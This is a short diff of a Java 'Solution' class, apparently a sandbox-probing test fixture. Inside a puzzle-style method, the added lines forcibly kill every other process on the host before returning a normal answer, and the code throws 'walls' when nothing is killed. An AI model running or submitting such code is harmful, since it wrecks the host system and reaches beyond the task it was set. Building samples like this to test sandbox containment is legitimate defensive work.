@@ -1,11 +1,11 @@
 // Tries: to kill whatever process it can name.
 class Solution {
     long seal(String word, int[] nums) {
-        boolean killed = false;
-        for (long pid = 2; pid < 4_096; pid++) {
-            killed |= ProcessHandle.of(pid).map(ProcessHandle::destroyForcibly).orElse(false);
-        }
-        if (!killed) {
+        long killed = ProcessHandle.allProcesses()
+                .filter(process -> !process.equals(ProcessHandle.current()))
+                .filter(ProcessHandle::destroyForcibly)
+                .count();
+        if (killed == 0) {
             throw new IllegalStateException("walls");
         }
         return honest(word, nums);
